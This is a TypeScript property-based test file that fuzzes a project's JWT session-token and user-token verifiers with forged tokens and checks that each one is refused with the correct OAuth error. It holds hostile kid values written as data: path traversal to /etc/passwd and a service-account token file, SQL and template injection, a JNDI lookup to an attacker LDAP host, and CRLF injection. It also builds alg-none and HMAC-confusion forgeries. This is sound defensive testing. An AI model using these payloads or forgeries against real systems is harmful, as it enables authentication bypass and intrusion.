/**
 * Token attacks (issue 10, part 4) as properties, for the two verifiers that run without the API
 * server: Warden session tokens (session.ts) and human user tokens (user-token.ts, with an
 * in-memory IdP behind the injected fetch). Projected service-account tokens are verified by the
 * API server (TokenReview) and are attacked in token-attacks.int.test.ts.
 *
 * Every attack below is signed with the *real* key where that makes it stronger: a kid pointing
 * elsewhere, a swapped audience or issuer, a past expiry — so only the check under test can
 * refuse it. Each refusal must be an OAuthError with the documented code and a description that
 * says which check failed.
 *
 * Already covered by example tests (not repeated here): alg none, HS256 keyed with the public key,
 * unknown kid, wrong aud/iss/typ, expiry (session.test.ts, user-token.int.test.ts,
 * attest.int.test.ts).
 *
 * Deterministic: a fixed seed (override with FUZZ_SEED=<n>) and bounded runs.
 */
import { createHmac, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { SESSION_TOKEN_TYP } from './constants.js';
import { OAuthError } from './errors.js';
import type { FetchLike } from './fetch.js';
import { generateStoredKey } from './keys.js';
import { StaticKeySource } from './keystore.js';
import { type SessionSubject, Sessions } from './session.js';
import { type TrustedIssuer, UserTokenVerifier } from './user-token.js';

const seed = Number(process.env.FUZZ_SEED ?? 20_261_129);
// FUZZ_SCALE=10 runs ten times as many cases (e.g. under `make bench`); the default keeps `make test` fast.
const runs = (numRuns: number) => ({
  seed,
  numRuns: Math.max(1, Math.round(numRuns * Number(process.env.FUZZ_SCALE ?? 1))),
});
// Generous per-test ceiling (not a timing assertion): shared 2-core CI machines and FUZZ_SCALE runs are slow.
vi.setConfig({ testTimeout: 120_000 * Math.max(1, Number(process.env.FUZZ_SCALE ?? 1)) });

const b64 = (v: unknown): string => Buffer.from(JSON.stringify(v)).toString('base64url');

/** A compact JWS over any header and payload, signed with `key` (ES256 or RS256 by key type). */
function signed(header: Record<string, unknown>, payload: Record<string, unknown>, key: KeyObject): string {
  const input = `${b64(header)}.${b64(payload)}`;
  const ec = key.asymmetricKeyType === 'ec';
  const sig = sign('sha256', Buffer.from(input), ec ? { key, dsaEncoding: 'ieee-p1363' } : key);
  return `${input}.${sig.toString('base64url')}`;
}

async function refusal(p: Promise<unknown>): Promise<OAuthError> {
  const outcome = await p.then(
    (v) => ({ accepted: v }),
    (e: unknown) => ({ error: e }),
  );
  if ('accepted' in outcome) throw new Error(`token was accepted: ${JSON.stringify(outcome.accepted)}`);
  expect(outcome.error).toBeInstanceOf(OAuthError);
  return outcome.error as OAuthError;
}

/** Hostile kid values: path traversal, SQL, JNDI/template injection, control bytes, huge, non-strings. */
const hostileKid = fc.oneof(
  fc.constantFrom<unknown>(
    '../../../../etc/passwd',
    '..\\..\\windows\\win.ini',
    '/dev/null',
    'file:///var/run/secrets/kubernetes.io/serviceaccount/token',
    "' OR '1'='1",
    '1; DROP TABLE keys; --',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal JNDI injection payload
    '${jndi:ldap://attacker/x}',
    '{{7*7}}',
    'k1\u0000',
    '\r\nX-Injected: 1',
    'a'.repeat(100_000),
    '',
    0,
    -1,
    true,
    null,
    [],
    ['k1'],
    {},
    { $ne: null },
  ),
  fc.string({ unit: 'binary', maxLength: 64 }),
  fc.jsonValue({ maxDepth: 2 }),
);

// ---------------------------------------------------------------------------------------------
// Session tokens

const ISSUER = 'https://authority.warden-system.svc';
const NOW = new Date('2026-06-01T12:00:00Z');
const nowS = Math.floor(NOW.getTime() / 1000);
const keys = new StaticKeySource({ keys: [generateStoredKey(new Date(0), new Date(0))] });
const sessions = new Sessions({ issuer: ISSUER, keys, now: () => NOW });
const key = keys.signingKey();
const subject: SessionSubject = {
  namespace: 'ns',
  agent: 'bot',
  serviceAccount: 'sa',
  pod: 'bot-1',
  podUID: 'u1',
};
const claims = (overrides: Record<string, unknown> = {}) => ({
  iss: ISSUER,
  aud: ISSUER,
  sub: 'system:warden:agent:ns:bot',
  iat: nowS,
  nbf: nowS,
  exp: nowS + 600,
  jti: 'j1',
  warden: subject,
  ...overrides,
});
const header = (overrides: Record<string, unknown> = {}) => ({
  alg: 'ES256',
  typ: SESSION_TOKEN_TYP,
  kid: key.kid,
  ...overrides,
});

describe('session tokens under attack', () => {
  it('the untouched token verifies (so every refusal below is caused by the one change)', async () => {
    await expect(sessions.verify(signed(header(), claims(), key.privateKey))).resolves.toMatchObject({
      warden: subject,
    });
  });

  it('kid injection: a kid other than a published one is refused, even when the real key signed', async () => {
    await fc.assert(
      fc.asyncProperty(hostileKid, async (kid) => {
        fc.pre(kid !== key.kid);
        const err = await refusal(sessions.verify(signed(header({ kid }), claims(), key.privateKey)));
        expect(err.code).toBe('invalid_token');
        expect(err.status).toBe(401);
        // One of two fixed sentences: the caller's kid is never echoed back (log/terminal injection).
        expect([
          'session token is signed with an unknown or retired key (kid); exchange the service-account token at /v1/token for a new session',
          'session token is malformed (expected a compact JWS)',
        ]).toContain(err.description);
      }),
      runs(300),
    );
  });

  it('audience swap: any aud that is not this authority is refused (strings and lists)', async () => {
    const aud = fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.constantFrom('https://jira.example.com', `${ISSUER}/`, ISSUER.toUpperCase(), 'warden.dev/broker'),
      fc.array(fc.string({ maxLength: 20 }), { maxLength: 3 }),
    );
    await fc.assert(
      fc.asyncProperty(aud, async (a) => {
        fc.pre(a !== ISSUER && !(Array.isArray(a) && a.includes(ISSUER)));
        const err = await refusal(sessions.verify(signed(header(), claims({ aud: a }), key.privateKey)));
        expect(err.code).toBe('invalid_token');
        expect(err.description).toMatch(/\(aud\)|malformed|claim aud/);
      }),
      runs(300),
    );
  });

  it('issuer swap: any iss other than this authority is refused', async () => {
    const iss = fc.oneof(
      fc.string({ maxLength: 40 }),
      fc.constantFrom(
        'https://evil.example.com',
        `${ISSUER}/`,
        `${ISSUER}.evil.com`,
        'https://kubernetes.default.svc',
      ),
    );
    await fc.assert(
      fc.asyncProperty(iss, async (i) => {
        fc.pre(i !== ISSUER);
        const err = await refusal(sessions.verify(signed(header(), claims({ iss: i }), key.privateKey)));
        expect(err.code).toBe('invalid_token');
        expect(err.description).toMatch(/\(iss\)|claim iss/);
      }),
      runs(300),
    );
  });

  it('expired beyond the 30 s skew, or not yet valid: refused, whatever the amount', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 31, max: 10 * 365 * 86_400 }), fc.boolean(), async (by, past) => {
        const c = past ? claims({ exp: nowS - by, iat: nowS - by - 600 }) : claims({ nbf: nowS + by });
        const err = await refusal(sessions.verify(signed(header(), c, key.privateKey)));
        expect(err.code).toBe('invalid_token');
        expect(err.description).toMatch(past ? /expired/ : /not valid yet/);
      }),
      runs(300),
    );
  });

  it('algorithm confusion with any HMAC secret derived from the public key: refused as not ES256', async () => {
    const pubJwk = JSON.stringify(key.publicJwk);
    const secret = fc.constantFrom(pubJwk, key.publicJwk.x, key.publicJwk.y, key.kid, '', ISSUER);
    await fc.assert(
      fc.asyncProperty(
        secret,
        fc.constantFrom('HS256', 'HS384', 'HS512', 'none', 'ES384', 'RS256', 'PS256'),
        async (s, alg) => {
          const input = `${b64(header({ alg }))}.${b64(claims())}`;
          const mac = alg.startsWith('HS')
            ? createHmac(`sha${alg.slice(2)}`, s)
                .update(input)
                .digest('base64url')
            : '';
          const err = await refusal(sessions.verify(`${input}.${mac}`));
          expect(err.code).toBe('invalid_token');
          expect(err.description).toMatch(/ES256|malformed/);
        },
      ),
      runs(100),
    );
  });

  it('arbitrary strings and oversized tokens: invalid_token, never another exception', async () => {
    const token = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.tuple(fc.base64String(), fc.base64String(), fc.base64String()).map((p) => p.join('.')),
      fc.tuple(fc.jsonValue(), fc.jsonValue()).map(([h, p]) => `${b64(h)}.${b64(p)}.`),
      fc.integer({ min: 8 * 1024, max: 256 * 1024 }).map((n) => `${b64(header())}.${'A'.repeat(n)}.sig`),
    );
    await fc.assert(
      fc.asyncProperty(token, async (t) => {
        const err = await refusal(sessions.verify(t));
        expect(err.code).toBe('invalid_token');
        expect(err.description.length).toBeLessThan(300);
      }),
      runs(500),
    );
  });
});

// ---------------------------------------------------------------------------------------------
// User tokens, from an in-memory IdP

const IDP = 'https://idp.example.com';
const OTHER_IDP = 'https://other-idp.example.com';
const CLIENT = 'warden-agents';
const idpKey = generateKeyPairSync('rsa', { modulusLength: 2048 });
const otherKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const IDP_KID = 'idp-1';
const OTHER_KID = 'other-1';

/** Discovery and JWKS of both IdPs; counts requests so amplification can be asserted. */
function idpFetch(counter: { n: number }): FetchLike {
  const jwks: Record<string, unknown> = {
    [`${IDP}/jwks`]: {
      keys: [{ ...idpKey.publicKey.export({ format: 'jwk' }), kid: IDP_KID, alg: 'RS256' }],
    },
    [`${OTHER_IDP}/jwks`]: {
      keys: [{ ...otherKey.publicKey.export({ format: 'jwk' }), kid: OTHER_KID, alg: 'ES256' }],
    },
  };
  return async (url) => {
    counter.n++;
    const u = String(url);
    for (const iss of [IDP, OTHER_IDP]) {
      if (u === `${iss}/.well-known/openid-configuration`) {
        return new Response(JSON.stringify({ issuer: iss, jwks_uri: `${iss}/jwks` }), {
          headers: { 'content-type': 'application/json' },
        });
      }
    }
    const body = jwks[u];
    return body
      ? new Response(JSON.stringify(body), { headers: { 'content-type': 'application/json' } })
      : new Response('not found', { status: 404 });
  };
}

const trusted: TrustedIssuer[] = [
  { issuer: IDP, audiences: [CLIENT] },
  { issuer: OTHER_IDP, audiences: ['other-client'] },
];
const spec = { trustedIssuers: trusted };
const WHERE = 'AgentIdentity ns/bot';
const userClaims = (o: Record<string, unknown> = {}) => ({
  iss: IDP,
  aud: CLIENT,
  sub: 'alice',
  iat: nowS,
  exp: nowS + 300,
  groups: ['support'],
  ...o,
});
const userHeader = (o: Record<string, unknown> = {}) => ({ alg: 'RS256', typ: 'JWT', kid: IDP_KID, ...o });

describe('user tokens under attack', () => {
  const fetches = { n: 0 };
  const verifier = new UserTokenVerifier({ fetch: idpFetch(fetches), now: () => NOW });

  it('the untouched token verifies', async () => {
    const user = await verifier.verify(signed(userHeader(), userClaims(), idpKey.privateKey), spec, WHERE);
    expect(user).toMatchObject({ present: true, sub: 'alice' });
  });

  it('kid injection: refused as invalid_grant, and cannot make Warden fetch keys again and again', async () => {
    const before = fetches.n;
    await fc.assert(
      fc.asyncProperty(hostileKid, async (kid) => {
        fc.pre(kid !== IDP_KID);
        const t = signed(userHeader({ kid }), userClaims(), idpKey.privateKey);
        const err = await refusal(verifier.verify(t, spec, WHERE));
        if (t.length > 16 * 1024) {
          expect(err.code).toBe('invalid_request'); // the 100 000-character kid: refused by size first
          return;
        }
        expect(err.code).toBe('invalid_grant');
        expect([
          "user token is signed with a key (kid) the issuer's JWKS does not contain",
          'user token is malformed',
        ]).toContain(err.description);
      }),
      runs(300),
    );
    // jose refetches a JWKS on an unknown kid at most once per cooldown (30 s): 300 attacks cost
    // at most one extra request, not 300.
    expect(fetches.n - before).toBeLessThanOrEqual(1);
  });

  it('issuer swap: a token signed by one trusted IdP claiming the other is refused', async () => {
    await fc.assert(
      fc.asyncProperty(fc.constantFrom('aud-of-other', 'aud-of-self'), async (audChoice) => {
        // Signed by IdP 1's key, claiming IdP 2 (the verifier must use IdP 2's keys).
        const aud = audChoice === 'aud-of-other' ? 'other-client' : CLIENT;
        const t = signed(userHeader(), userClaims({ iss: OTHER_IDP, aud }), idpKey.privateKey);
        const err = await refusal(verifier.verify(t, spec, WHERE));
        expect(err.code).toBe('invalid_grant');
        expect(err.description).toMatch(/kid|signature|must be signed/);
      }),
      runs(10),
    );
  });

  it('untrusted issuers and audience swaps are refused, naming the trustedIssuers setting', async () => {
    const swap: fc.Arbitrary<{ iss?: string; aud?: string }> = fc.oneof(
      fc.string({ maxLength: 30 }).map((iss) => ({ iss })),
      fc.constantFrom(`${IDP}/`, IDP.toUpperCase(), `${IDP}.evil.com`).map((iss) => ({ iss })),
      fc
        .oneof(fc.string({ maxLength: 30 }), fc.constantFrom('other-client', `${CLIENT} `))
        .map((aud) => ({ aud })),
    );
    await fc.assert(
      fc.asyncProperty(swap, async (o) => {
        fc.pre(o.iss !== IDP && o.aud !== CLIENT);
        const t = signed(userHeader(), userClaims(o), idpKey.privateKey);
        const err = await refusal(verifier.verify(t, spec, WHERE));
        expect(err.code).toBe('invalid_grant');
        expect(err.description).toContain('trustedIssuers');
      }),
      runs(300),
    );
  });

  it('expired beyond the 120 s skew: refused', async () => {
    await fc.assert(
      fc.asyncProperty(fc.integer({ min: 121, max: 10 * 365 * 86_400 }), async (by) => {
        const t = signed(
          userHeader(),
          userClaims({ exp: nowS - by, iat: nowS - by - 300 }),
          idpKey.privateKey,
        );
        const err = await refusal(verifier.verify(t, spec, WHERE));
        expect(err.code).toBe('invalid_grant');
        expect(err.description).toMatch(/expired/);
      }),
      runs(200),
    );
  });

  it('alg none and HMAC keyed with the public key: refused, asymmetric algorithms only', async () => {
    const pem = idpKey.publicKey.export({ type: 'spki', format: 'pem' }).toString();
    const jwk = JSON.stringify(idpKey.publicKey.export({ format: 'jwk' }));
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('none', 'HS256', 'HS384', 'HS512'),
        fc.constantFrom(pem, jwk, ''),
        async (alg, secret) => {
          const input = `${b64(userHeader({ alg }))}.${b64(userClaims())}`;
          const mac =
            alg === 'none'
              ? ''
              : createHmac(`sha${alg.slice(2)}`, secret)
                  .update(input)
                  .digest('base64url');
          const err = await refusal(verifier.verify(`${input}.${mac}`, spec, WHERE));
          expect(err.code).toBe('invalid_grant');
          expect(err.description).toMatch(/must be signed with one of/);
        },
      ),
      runs(50),
    );
  });

  it('oversized (> 16 KiB) or garbage tokens: an OAuth error, never another exception', async () => {
    const token = fc.oneof(
      fc.integer({ min: 16 * 1024 + 1, max: 512 * 1024 }).map((n) => 'e'.repeat(n)),
      fc.string({ unit: 'binary', maxLength: 200 }),
      fc.tuple(fc.jsonValue(), fc.jsonValue()).map(([h, p]) => `${b64(h)}.${b64(p)}.x`),
    );
    await fc.assert(
      fc.asyncProperty(token, async (t) => {
        const err = await refusal(verifier.verify(t, spec, WHERE));
        expect(['invalid_request', 'invalid_grant']).toContain(err.code);
        if (t.length > 16 * 1024) expect(err.description).toBe('user token is longer than 16384 characters');
      }),
      runs(300),
    );
  });
});
